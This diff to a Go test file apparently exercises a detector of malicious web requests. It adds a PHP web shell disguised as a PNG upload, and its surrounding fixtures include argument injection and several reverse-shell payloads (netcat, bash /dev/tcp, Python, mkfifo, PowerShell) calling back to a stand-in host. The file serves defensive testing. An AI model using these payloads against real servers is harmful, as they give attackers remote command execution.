@@ -220,6 +220,7 @@ func TestEvidence(t *testing.T) {
 		"option of ssh":                   {exchange("GET", "/a?host="+url.QueryEscape("-oProxyCommand=lamp x"), "", ""), 9703092},
 		"shell for netcat":                {exchange("GET", "/a?host="+url.QueryEscape("a;busybox nc 192.0.2.4 4444 -e sh"), "", ""), 9703092},
 		"shell that calls back":           {exchange("POST", "/job", jsonType, `{"command":"cd /srv/lamp && bash -i >& /dev/tcp/192.0.2.4/4444 0>&1"}`), 9703092},
+		"script in a picture":             {exchange("PUT", "/media/7", "image/png", "\x89PNG\r\n\x1a\n<?php system($_GET[\"c\"]); ?>"), 9703071},
 		"Python that calls back":          {exchange("POST", "/job", jsonType, `{"args":"python3 -c 'import socket,os;s=socket.socket();s.connect((\"192.0.2.4\",9));os.dup2(s.fileno(),0)'"}`), 9703092},
 		"pipe that calls back":            {exchange("POST", "/job", jsonType, `{"args":"mkfifo /tmp/a; sh -i </tmp/a 2>&1 | nc 192.0.2.4 4444 >/tmp/a"}`), 9703092},
 		"PowerShell that calls back":      {exchange("POST", "/job", jsonType, `{"args":"$c = New-Object Net.Sockets.TCPClient('192.0.2.4',9);$s=$c.GetStream();iex $x"}`), 9703092},
